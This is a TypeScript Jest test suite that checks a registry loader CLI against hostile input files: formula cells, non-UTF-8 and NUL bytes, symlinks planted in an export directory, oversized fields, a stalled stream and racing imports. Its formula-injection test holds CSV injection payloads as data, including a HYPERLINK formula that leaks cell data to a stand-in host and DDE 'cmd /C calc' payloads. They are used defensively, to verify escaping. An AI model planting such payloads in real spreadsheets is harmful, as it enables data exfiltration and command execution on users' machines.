import { execFileSync, spawn } from 'node:child_process';
import { open } from 'node:fs/promises';
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from 'pg';
import { createTestDatabase, TestDatabase } from '@dmrv/testing';
import { runMigrations } from '../src/database/data-source';
import { ENTITY_NAMES } from '../src/loader/entity-formats';
import {
  appendRows,
  assertCliBuilt,
  CLI,
  cli,
  CliRun,
  EXAMPLES,
  exampleCopy,
  snapshot,
  sql,
} from './loader-test-kit';

// Files an attacker, a broken export or a hostile directory can hand the loader: formula cells, bytes that are not
// UTF-8, NUL bytes, planted symbolic links, fields without end, a stalled stream, and loads that race.
jest.setTimeout(120_000);

const lines = (text: string): string[] => text.split('\n').filter((line) => line !== '');
const outcome = (run: CliRun): { code: number | null; stdout: string; stderr: string[] } => ({
  code: run.code,
  stdout: run.stdout,
  stderr: lines(run.stderr),
});

describe('cli.js import/export against hostile files (real PostgreSQL)', () => {
  let database: TestDatabase;
  const scratch: string[] = [];

  const scratchDir = (directory: string): string => {
    scratch.push(directory);
    return directory;
  };
  const emptyDir = (label: string): string => scratchDir(mkdtempSync(join(tmpdir(), `registry-${label}-`)));

  beforeAll(async () => {
    assertCliBuilt();
    database = await createTestDatabase('loader_hostile');
    await runMigrations(database.url);
    expect((await cli(['import', EXAMPLES, '--quiet'], database.url)).code).toBe(0);
  });

  afterAll(async () => {
    await database?.drop();
    for (const directory of scratch) rmSync(directory, { recursive: true, force: true });
  });

  /** Runs an import that must be refused, and checks it wrote nothing at all. */
  const refusedImport = async (args: string[]): Promise<ReturnType<typeof outcome>> => {
    const before = await snapshot(database.url);
    const run = await cli(['import', ...args, '--quiet'], database.url);
    expect(await snapshot(database.url)).toEqual(before);
    return outcome(run);
  };

  describe('formula cells (CSV injection)', () => {
    let target: TestDatabase;

    beforeAll(async () => {
      target = await createTestDatabase('loader_formulas');
      await runMigrations(target.url);
    });

    afterAll(async () => {
      await target?.drop();
    });

    it('exports text that a spreadsheet would run as a formula behind a quote, and import takes the quote off again', async () => {
      const source = await createTestDatabase('loader_formula_src');
      try {
        await runMigrations(source.url);
        const directory = scratchDir(exampleCopy('formulas'));
        appendRows(directory, 'projects.csv', [
          `formula-1,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",+cmd|' /C calc'!A0,0.0156,0.84,112,9.46`,
        ]);
        appendRows(directory, 'households.csv', [
          `hh-formula-1,formula-1,@SUM(1+1)*cmd|' /C calc'!A0,low,2024-01-08,LPG`,
          `hh-formula-2,formula-1,-2+3+cmd|' /C calc'!A0,medium,2024-01-09,`,
          `hh-formula-3,formula-1,'s-Hertogenbosch,high,2024-01-10,`,
          `hh-formula-4,formula-1,'=typed as text in a spreadsheet,high,2024-01-10,`,
        ]);
        appendRows(directory, 'credit-events.csv', [
          '7,KES-2024-Q1-002,transferred,2024-06-01,1,=1+1,@recipient',
        ]);
        expect((await cli(['import', directory, '--quiet'], source.url)).code).toBe(0);
        // Written by other means than the loader: a text that already starts with the escape's quote.
        await sql(source.url, `UPDATE households SET region = '''+kept' WHERE id = 'hh-formula-3'`);

        const exported = emptyDir('export-formulas');
        expect((await cli(['export', exported, '--quiet'], source.url)).code).toBe(0);
        const file = (name: string): string[] => readFileSync(join(exported, name), 'utf8').split('\r\n');
        expect(file('projects.csv')[1]).toBe(
          `formula-1,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")","'+cmd|' /C calc'!A0",0.0156,0.84,112,9.46`,
        );
        expect(file('households.csv').slice(1, 5)).toEqual([
          `hh-formula-1,formula-1,"'@SUM(1+1)*cmd|' /C calc'!A0",low,2024-01-08,LPG`,
          `hh-formula-2,formula-1,"'-2+3+cmd|' /C calc'!A0",medium,2024-01-09,`,
          `hh-formula-3,formula-1,"''+kept",high,2024-01-10,`,
          `hh-formula-4,formula-1,"'=typed as text in a spreadsheet",high,2024-01-10,`,
        ]);
        expect(file('credit-events.csv')[7]).toBe(
          `7,KES-2024-Q1-002,transferred,2024-06-01,1,"'=1+1","'@recipient"`,
        );

        expect((await cli(['import', exported, '--quiet'], target.url)).code).toBe(0);
        const stored = `SELECT id, region FROM households WHERE id LIKE 'hh-formula-%' ORDER BY id`;
        expect(await sql(target.url, stored)).toEqual([
          { id: 'hh-formula-1', region: `@SUM(1+1)*cmd|' /C calc'!A0` },
          { id: 'hh-formula-2', region: `-2+3+cmd|' /C calc'!A0` },
          { id: 'hh-formula-3', region: `'+kept` },
          { id: 'hh-formula-4', region: '=typed as text in a spreadsheet' },
        ]);
        expect(await sql(target.url, stored)).toEqual(await sql(source.url, stored));
        expect(await sql(target.url, `SELECT name, country FROM projects WHERE id = 'formula-1'`)).toEqual([
          { name: '=HYPERLINK("http://evil.example/?q="&A1,"click")', country: `+cmd|' /C calc'!A0` },
        ]);
        const again = emptyDir('export-formulas-again');
        expect((await cli(['export', again, '--quiet'], target.url)).code).toBe(0);
        // The data files; manifest.json names the time of each export.
        for (const name of readdirSync(exported).filter((file) => file !== 'manifest.json'))
          expect(readFileSync(join(again, name), 'utf8')).toBe(readFileSync(join(exported, name), 'utf8'));
      } finally {
        await source.drop();
      }
    });
  });

  describe('text that is not UTF-8', () => {
    it('refuses a Latin-1 file at the line of its first bad byte, and writes nothing', async () => {
      const directory = emptyDir('latin1');
      writeFileSync(
        join(directory, 'households.csv'),
        Buffer.concat([
          Buffer.from('id,project_id,region,density,onboarding_date,fuels\r\n'),
          Buffer.from('hh-kafue-0001,kafue-stoves,Lusaka,high,2024-01-08,LPG + Biomass\r\n'),
          Buffer.from('hh-kafue-0002,kafue-stoves,Kafu', 'latin1'),
          Buffer.from([0xe9]),
          Buffer.from(',medium,2024-01-15,Charcoal\r\n'),
        ]),
      );
      expect(await refusedImport([directory])).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          'households.csv:3: not UTF-8 text (byte 0xE9 cannot stand there): save the file as UTF-8',
          'import failed: 1 problem in 1 row; nothing was written',
        ],
      });
    });

    it('refuses a NUL byte with its line instead of a database error, and a NUL escaped in JSON as a control character', async () => {
      const directory = emptyDir('nul');
      writeFileSync(
        join(directory, 'households.csv'),
        'id,project_id,region,density,onboarding_date,fuels\r\nhh-kafue-0001,kafue-stoves,Lusaka,high,2024-01-08,LPG\r\nhh-kafue-0002,kafue-stoves,Lu\0saka,medium,2024-01-15,\r\n',
      );
      writeFileSync(
        join(directory, 'devices.ndjson'),
        [
          '{"id":"meter-0001","household_id":"hh-kafue-0001","status":"active","last_active":"2024-06-28T17:45:00Z"}',
          '{"id":"meter-0002","household_id":"hh-kafue-0002","status":"act\\u0000ive","last_active":"2024-06-28T17:45:00Z"}',
          '{"id":"meter-0003","household_id":"hh-kafue-0003","status":"active","last_active":"2024-06-28T17:45:00Z","a\\u0000b":1}',
          '',
        ].join('\n'),
      );
      expect(await refusedImport([directory])).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          'households.csv:3: holds a NUL byte (0x00), which no text file does: is it UTF-16 or binary?',
          'devices.ndjson:2: status "act␀ive": must be one of active, inactive, faulty, decommissioned',
          'devices.ndjson:3: a␀b "1": unknown field (devices has id, household_id, status, last_active)',
          'import failed: 3 problems in 3 rows; nothing was written',
        ],
      });
    });
  });

  describe('export into a directory with planted links', () => {
    it('refuses to write through a symbolic link, dangling or not, and writes no file at all', async () => {
      const directory = emptyDir('links');
      const outside = emptyDir('links-outside');
      writeFileSync(join(outside, 'victim.txt'), 'precious\n');
      symlinkSync(join(outside, 'victim.txt'), join(directory, 'households.csv'));
      symlinkSync(join(outside, 'planted.csv'), join(directory, 'projects.csv'));
      const run = await cli(['export', directory, '--quiet'], database.url);
      expect(outcome(run)).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          `${join(directory, 'projects.csv')}: a symbolic link; export never writes through one (remove it, or export into another directory)`,
          `${join(directory, 'households.csv')}: a symbolic link; export never writes through one (remove it, or export into another directory)`,
          'export failed: nothing was written',
        ],
      });
      expect(readFileSync(join(outside, 'victim.txt'), 'utf8')).toBe('precious\n');
      expect(existsSync(join(outside, 'planted.csv'))).toBe(false);
      expect(readdirSync(directory).sort()).toEqual(['households.csv', 'projects.csv']);
    });

    it('refuses a directory that is itself a symbolic link (or not a directory), writing nothing into its target (issue 32)', async () => {
      const target = emptyDir('linked-target');
      const link = join(emptyDir('linked'), 'exports');
      symlinkSync(target, link);
      const run = await cli(['export', link, '--quiet'], database.url);
      expect(outcome(run)).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          `${link}: a symbolic link; export never writes through one (name the directory it points to, or another one)`,
          'export failed: nothing was written',
        ],
      });
      expect(readdirSync(target)).toEqual([]);
      // The directory it points to, named as itself, is written as any other.
      expect((await cli(['export', target, '--quiet'], database.url)).code).toBe(0);
      expect(readdirSync(target).sort()).toEqual(
        [...ENTITY_NAMES.map((name) => `${name}.csv`), 'manifest.json'].sort(),
      );

      const file = join(emptyDir('not-a-directory'), 'exports');
      writeFileSync(file, 'a file\n');
      expect(outcome(await cli(['export', file, '--quiet'], database.url))).toEqual({
        code: 1,
        stdout: '',
        stderr: [`${file}: not a directory`, 'export failed: nothing was written'],
      });
      expect(readFileSync(file, 'utf8')).toBe('a file\n');
    });

    it('replaces regular files of the same names, leaving no temporary file behind', async () => {
      const directory = emptyDir('replace');
      writeFileSync(join(directory, 'projects.csv'), 'old\n');
      expect((await cli(['export', directory, '--quiet'], database.url)).code).toBe(0);
      expect(readFileSync(join(directory, 'projects.csv'), 'utf8')).toMatch(/^id,name,country,/);
      expect(readdirSync(directory)).toHaveLength(ENTITY_NAMES.length + 1); // and manifest.json
    });
  });

  describe('sizes and time', () => {
    it('refuses a field, a record and an NDJSON line over the documented limits, with their lines', async () => {
      const directory = emptyDir('sizes');
      writeFileSync(
        join(directory, 'households.csv'),
        [
          'id,project_id,region,density,onboarding_date,fuels',
          'hh-kafue-0001,kafue-stoves,Lusaka,high,2024-01-08,LPG',
          `hh-kafue-0002,kafue-stoves,${'x'.repeat(10_001)},medium,2024-01-15,`,
          `hh-kafue-0003,kafue-stoves,${Array.from({ length: 12 }, () => 'y'.repeat(9_000)).join(',')}`,
          'hh-kafue-0004,kafue-stoves,Central,low,2024-02-02,',
          '',
        ].join('\r\n'),
      );
      writeFileSync(
        join(directory, 'devices.ndjson'),
        [
          '{"id":"meter-0001","household_id":"hh-kafue-0001","status":"active","last_active":"2024-06-28T17:45:00Z"}',
          `{"id":"meter-0002","household_id":"hh-kafue-0002","status":"active","last_active":"2024-06-28T17:45:00Z","pad":"${'z'.repeat(100_000)}"}`,
          '{"id":"meter-0003","household_id":"hh-kafue-0003","status":"active","last_active":"2024-06-28T17:45:00Z"}',
          '',
        ].join('\n'),
      );
      expect(await refusedImport([directory])).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          'households.csv:3: a field longer than 10,000 characters (the most a data file may hold in one field)',
          'households.csv:4: a record longer than 100,000 characters (the most a data file may hold in one record)',
          'devices.ndjson:2: a line longer than 100,000 characters (the most a data file may hold in one record)',
          'import failed: 3 problems in 3 rows; nothing was written',
        ],
      });
    });

    it('reads past a quote that is never closed without holding the rest of the file', async () => {
      const directory = emptyDir('open-quote');
      writeFileSync(
        join(directory, 'households.csv'),
        `id,project_id,region,density,onboarding_date,fuels\r\nhh-kafue-0001,kafue-stoves,"Lusaka${'\r\nx,y,z'.repeat(1_000_000)}\r\n`,
      );
      expect(await refusedImport([directory])).toEqual({
        code: 1,
        stdout: '',
        stderr: [
          'households.csv:2: a field longer than 10,000 characters (the most a data file may hold in one field)',
          'import failed: 1 problem in 1 row; nothing was written',
        ],
      });
    });

    it.each(['0', '1.5x', 'soon', '3000000'])(
      'refuses --timeout %s as a usage error (exit 2)',
      async (value) => {
        const run = await cli(['import', EXAMPLES, '--timeout', value], database.url);
        expect({ code: run.code, first: run.stderr.split('\n')[0] }).toEqual({
          code: 2,
          first: '--timeout must be a number of seconds (at most 2147483)',
        });
      },
    );

    it('gives up on a stream that stalls with its COPY open once --timeout passes, and leaves nothing open', async () => {
      const directory = emptyDir('stall');
      const fifo = join(directory, 'households.csv');
      execFileSync('mkfifo', [fifo]);
      const before = await snapshot(database.url);
      const child = spawn(process.execPath, [CLI, 'import', fifo, '--quiet', '--timeout', '1'], {
        env: { PATH: process.env.PATH, TZ: 'UTC', DATABASE_URL: database.url },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stderr = '';
      const reported = new Promise<void>((resolve) =>
        child.stderr.on('data', (chunk: Buffer) => {
          stderr += chunk.toString();
          if (stderr.endsWith('\n')) resolve();
        }),
      );
      const exited = new Promise<number | null>((resolve) => child.once('close', resolve));
      // Opening a FIFO for writing completes once the loader has opened it for reading.
      const writer = await Promise.race([
        open(fifo, 'w'),
        exited.then((code) => {
          throw new Error(`the loader ended without reading the file: ${code} ${stderr}`);
        }),
      ]);
      try {
        await writer.write(
          'id,project_id,region,density,onboarding_date,fuels\r\nhh-kafue-0009,kafue-stoves,Lusaka,high,2024-01-08,LPG\r\n',
        );
        await reported;
        expect(stderr).toBe('import failed: timed out after 1 s (--timeout 1); nothing was written\n');
        // The stream is still stalled here: the COPY and the connection are gone all the same.
        expect(
          await sql(
            database.url,
            `SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'registry-api loader'`,
          ),
        ).toEqual([{ n: 0 }]);
      } finally {
        // A read the kernel never completes holds the process (Node joins its I/O threads at exit) until it returns.
        await writer.close();
      }
      expect(await exited).toBe(1);
      expect(await snapshot(database.url)).toEqual(before);
    });
  });

  describe('loads at the same time', () => {
    let race: TestDatabase;

    beforeAll(async () => {
      race = await createTestDatabase('loader_race');
      await runMigrations(race.url);
      const directory = scratchDir(exampleCopy('race'));
      rmSync(join(directory, 'credit-events.csv'));
      expect((await cli(['import', directory, '--quiet'], race.url)).code).toBe(0);
    });

    afterAll(async () => {
      await race?.drop();
    });

    /** Backends of the loader waiting for a lock: each load has staged and checked its rows by then. */
    const waitingLoads = async (count: number): Promise<void> => {
      for (;;) {
        const [{ n }] = await sql<{ n: number }>(
          race.url,
          `SELECT count(*)::int AS n FROM pg_stat_activity
           WHERE application_name = 'registry-api loader' AND wait_event_type = 'Lock'`,
        );
        if (n === count) return;
        await new Promise((resolve) => setImmediate(resolve));
      }
    };

    /**
     * Holding the ledger in SHARE mode lets every load stage and check its rows but write none: all of them reach the
     * merge before any commits, the interleaving that raced on the ledger's unique indexes.
     */
    const loadsHeldAtTheMerge = async (argvs: string[][]): Promise<CliRun[]> => {
      const holder = new Client({ connectionString: race.url });
      await holder.connect();
      try {
        await holder.query('BEGIN');
        await holder.query('LOCK TABLE credit_events IN SHARE MODE');
        const loads = Promise.all(argvs.map((argv) => cli(argv, race.url)));
        await waitingLoads(argvs.length);
        await holder.query('COMMIT');
        return await loads;
      } finally {
        await holder.end();
      }
    };

    it('serialises imports of the same ledger file: one writes it, the others find every row unchanged', async () => {
      const file = join(EXAMPLES, 'credit-events.csv');
      const runs = await loadsHeldAtTheMerge([1, 2, 3].map(() => ['import', file, '--quiet']));
      expect(runs.map(outcome).sort((a, b) => a.stdout.localeCompare(b.stdout))).toEqual([
        { code: 0, stdout: 'credit-events: 6 rows, 0 new, 0 changed, 6 unchanged\n', stderr: [] },
        { code: 0, stdout: 'credit-events: 6 rows, 0 new, 0 changed, 6 unchanged\n', stderr: [] },
        { code: 0, stdout: 'credit-events: 6 rows, 6 new, 0 changed, 0 unchanged\n', stderr: [] },
      ]);
      expect(
        await sql(race.url, `SELECT count(*)::int AS n FROM credit_events WHERE kind = 'issued'`),
      ).toEqual([{ n: 3 }]);
    });

    it('gives the second of two issuances of one block, loaded at once, the ledger report', async () => {
      const directory = emptyDir('race-issuance');
      writeFileSync(
        join(directory, 'credit-blocks.csv'),
        'id,project_id,vintage,serial_start,serial_end,quantity\r\nKES-2024-Q3-001,kafue-stoves,2024,100,101,2\r\n',
      );
      expect((await cli(['import', directory, '--quiet'], race.url)).code).toBe(0);
      const header = 'id,block_id,kind,event_date,quantity,sender,recipient\r\n';
      writeFileSync(
        join(directory, 'credit-events.a.csv'),
        `${header}101,KES-2024-Q3-001,issued,2024-09-01,2,,\r\n`,
      );
      writeFileSync(
        join(directory, 'credit-events.b.csv'),
        `${header}102,KES-2024-Q3-001,issued,2024-09-02,2,,\r\n`,
      );
      const [a, b] = await loadsHeldAtTheMerge(
        ['a', 'b'].map((name) => ['import', join(directory, `credit-events.${name}.csv`), '--quiet']),
      );
      const refused = (file: string, other: number): ReturnType<typeof outcome> => ({
        code: 1,
        stdout: '',
        stderr: [
          `${file}:2: kind "issued": block KES-2024-Q3-001 is already issued by event ${other}`,
          'import failed: 1 problem in 1 row; nothing was written',
        ],
      });
      const loaded = {
        code: 0,
        stdout: 'credit-events: 1 rows, 1 new, 0 changed, 0 unchanged\n',
        stderr: [],
      };
      expect([outcome(a!), outcome(b!)]).toEqual(
        a!.code === 0
          ? [loaded, refused('credit-events.b.csv', 101)]
          : [refused('credit-events.a.csv', 102), loaded],
      );
      expect(
        await sql(
          race.url,
          `SELECT count(*)::int AS n FROM credit_events WHERE block_id = 'KES-2024-Q3-001'`,
        ),
      ).toEqual([{ n: 1 }]);
    });
  });
});
